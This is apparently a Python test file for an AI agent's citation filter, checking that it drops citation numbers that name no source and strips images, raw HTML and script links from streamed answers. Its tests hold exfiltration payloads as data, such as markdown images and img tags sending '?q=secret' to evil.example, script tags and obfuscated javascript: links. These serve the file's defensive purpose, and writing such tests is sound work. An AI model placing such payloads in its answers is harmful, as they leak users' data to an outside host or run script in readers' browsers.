from collections.abc import Iterator
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agent.citations import CitationFilter, cited, uncited_claims, without_markers

VALID = {1, 2, 3}


def checked(text: str, *, sources: str = "") -> str:
    reader = CitationFilter(VALID, sources=sources)
    return reader.feed(text) + reader.flush()


def in_pieces(pieces: list[str]) -> str:
    reader = CitationFilter(VALID)
    return "".join(reader.feed(piece) for piece in pieces) + reader.flush()


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Fees are 5 % [1].", "Fees are 5 % [1]."),
        ("Fees are 5 % [7].", "Fees are 5 %."),
        ("Both [1, 7] hold [7][2].", "Both [1] hold [2]."),
        ("All [1-3], [1–7], [2; 3] hold.", "All [1][2][3], [1][2][3], [2][3] hold."),
        ("So【1】 and 【2†source】, [^3] too.", "So[1] and [2], [3] too."),
        ("None [0] of [007] these [8, 9] is.", "None of these is."),
        ("[9] first", "first"),
        ("- [9] item\n- [1] item", "- item\n- [1] item"),
        ("line [9]\nnext", "line\nnext"),
        ("twice [1, 1]", "twice [1]"),
        ("backwards [3-1]", "backwards [3][1]"),
    ],
)
def test_markers_that_name_no_passage_go_and_the_others_look_alike(written: str, shown: str) -> None:
    assert checked(written) == shown


@pytest.mark.parametrize(
    "text",
    [
        "In [2024] and [1984].",
        "Use `arr[9]` or ``a`[9]``.",
        "```python\narr[9] = x[8]\n```\nDone [1].",
        "~~~\narr[9]\n~~~",
        "1. Run:\n   ```\n   arr[9]\n   ```\n2. Done [1].",
        "A [link](https://example.com/a?b=(9)#c) and [7](https://example.com) as text.",
        "A [link](</path with blanks> 'title').",
        "Open [x], [ ], [a], [1a], [ 1 ] and [.",
        "Write to <help@example.com> or see <https://example.com/x?y=1>.",
        "a < b, 3<4, x <- y, <3",
        "Escaped \\[9\\] and \\* and C:\\files\\.",
        "Wow! Great!! Really!",
        "  indented\n\n\n    code\n\ttab \n two  \nspaces",
        "| a | b |\n|---|---|\n| 1 [1] | 2 [2] |",
        "Tom & Jerry &amp; 5 € „ok“ 日本語",
        "",
    ],
)
def test_what_is_no_marker_is_left_alone(text: str) -> None:
    assert checked(text) == text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See ![the secret](https://evil.example/?q=secret).", "See the secret."),
        ("See ![](https://evil.example/?q=secret).", "See."),
        ("![a ![b](https://evil.example/1)](https://evil.example/2)", "a b"),
        ("![a][ref]\n\n[ref]: https://evil.example", "a\n\n[ref] : https://evil.example"),
        ("[![badge](https://evil.example/b.svg)](https://example.com)", "[badge](https://example.com)"),
        ("Great![1]", "Great! [1]"),
        ("Great![9]", "Great!"),
        ('Hi <img src="https://evil.example/?q=secret">there', "Hi there"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<!-- hidden -->shown", "shown"),
        ("Set <your-name> here", "Set &lt;your-name> here"),
        ("<x onload=evil()>", "&lt;x onload=evil()>"),
        ("one<br>two", "onetwo"),
        ("<<b>img src=https://evil.example>", "< img src=https://evil.example>"),
        ("!<b>[x](https://evil.example)", "! [x](https://evil.example)"),
        ("<[9]img src=https://evil.example>", "< img src=https://evil.example>"),
        ("[1]: https://evil.example", "[1] : https://evil.example"),
        ("[1 ]: https://evil.example", "[1 ] : https://evil.example"),
        ("[here](javascript:alert(1)) [or](data:text/html,x)", "[here] [or]"),
        ("[here](java&Tab;script:alert(1))", "[here]"),
        ("Use `![x](https://evil.example)`", "Use `! [x](https://evil.example)`"),
        ("- a\n  ```\n  code\n![x](https://evil.example)", "- a\n  ```\n  code\nx"),
    ],
)
def test_nothing_in_an_answer_fetches_or_runs_anything(written: str, shown: str) -> None:
    assert checked(written) == shown
    assert not list(unsafe(shown))


def test_an_image_of_the_documents_is_kept() -> None:
    sources = "The dashboard: ![Dashboard](https://docs.example/dashboard.png)"
    image = "Look: ![The dashboard](https://docs.example/dashboard.png)."
    assert checked(image, sources=sources) == image
    assert checked(image, sources="other") == "Look: The dashboard."
    longer = "Look: ![The dashboard](https://docs.example/dashboard.png?q=secret)."
    assert checked(longer, sources=sources) == "Look: The dashboard."


def test_a_block_of_html_code_is_shown_as_it_is() -> None:
    block = '```html\n<img src="logo.png">\n![x](y.png)\n```\n'
    assert checked(block) == block


def test_words_are_never_held_back() -> None:
    reader = CitationFilter(VALID)
    assert reader.feed("Money is") == "Money is"
    assert reader.feed(" held") == " held"
    assert reader.feed(" [") == ""
    assert reader.feed("se") == " [se"
    assert reader.feed("e] this") == "e] this"
    assert reader.feed(" [1") == ""
    assert reader.feed("]") == ""
    assert reader.feed(" and") == " [1] and"
    assert reader.flush() == ""


def test_what_never_closes_is_not_held_for_ever() -> None:
    for opening in ("![", "`", "[x](", "<img ", "```", "```x`", "<!--", "【1:"):
        reader = CitationFilter(VALID)
        shown = reader.feed(opening + "word " * 2000)
        assert len(shown) > 5000, opening


def test_numbers_are_counted_while_the_text_streams() -> None:
    reader = CitationFilter(VALID)
    reader.feed("A [2]. B [1][9]. C [2, 3].")
    reader.flush()
    assert reader.numbers == [2, 1, 2, 3]


def test_cited_gives_each_number_once_in_order() -> None:
    assert cited("B [2]. A [1, 4]. `x[3]` C [2]【5】.\n```\n[6]\n```\n[7](https://example.com)") == [2, 1, 4, 5]


def test_without_markers_keeps_the_words() -> None:
    assert without_markers("Money is held [1]. Fees [2][3] are low.") == "Money is held. Fees are low."


def test_uncited_claims_are_the_sentences_that_state_something_and_cite_nothing() -> None:
    answer = """The fee is 5 % [1]. Money is held in escrow. Is that fine?

To pay:

1. Open the payment page. [1]
2. Confirm the milestone by mail.

| Plan | Price |
|---|---|
| The team plan | 49 euros [2] |

```
this is code, not a claim
```
"""
    assert uncited_claims(answer) == ["Money is held in escrow.", "Confirm the milestone by mail."]


FRAGMENTS = [
    *["[1]", "[9]", "[1, 9]", "[2-3]", "[^1]", "【1】", "【9†source】", "[2024]", "[", "]", "(", ")", "![", "!", "\\"],
    *[
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "\r\n",
        " ",
        "  ",
        "    ",
        "\t",
        "<",
        ">",
        "</",
        "<!--",
        "-->",
        "<b>",
        "</b>",
    ],
    *[
        "<img src=x>",
        "<img ",
        "src=",
        "<y z>",
        "<https://e.example>",
        "<style>",
        '"',
        "'",
        "=",
        "&",
        ":",
        ";",
        ",",
        "-",
    ],
    *[
        "http://e.example/",
        "](http://e.example)",
        "![a](http://e.example)",
        "[r]: http://e.example",
        "](",
        "][",
        "^",
        "1",
    ],
    *["word", "a", "javascript:", "> ", "- ", "1. ", "# ", "|", "|---|", "*", "_", "9", "x", "†", "é", "日", "%", "."],
]
ANSWERS = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=3)), max_size=25)


@given(ANSWERS, st.lists(st.integers(0, 200), max_size=8))
@settings(max_examples=500, deadline=None)
def test_how_the_text_was_cut_makes_no_difference(fragments: list[str], cuts: list[int]) -> None:
    text = "".join(fragments)
    places = [0, *sorted(cut for cut in cuts if cut <= len(text)), len(text)]
    expected = checked(text)
    assert in_pieces([text[start:end] for start, end in pairwise(places)]) == expected
    assert in_pieces(list(text)) == expected


@given(ANSWERS)
@settings(max_examples=500, deadline=None)
def test_a_checked_answer_is_left_as_it_is(fragments: list[str]) -> None:
    once = checked("".join(fragments))
    assert checked(once) == once
    assert set(cited(once)) <= VALID


MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")


def unsafe(text: str) -> Iterator[Token]:
    """The images and HTML that a CommonMark parser finds."""
    for token in MARKDOWN.parse(text):
        for part in [token, *(token.children or ())]:
            if part.type in ("image", "html_inline", "html_block"):
                yield part


@given(ANSWERS)
@example(["- `a\n- ", "![x](http://e.example)", "`"])
@example(["a ` b\n`", "![x](http://e.example)", "`"])
@example(["| `a | ", "![x](http://e.example)", " | b` |"])
@example(["<x>\n```\n", "<img src=x>", "\n```"])
@settings(max_examples=1000, deadline=None)
def test_a_markdown_parser_finds_no_image_and_no_html(fragments: list[str]) -> None:
    assert not list(unsafe(checked("".join(fragments))))
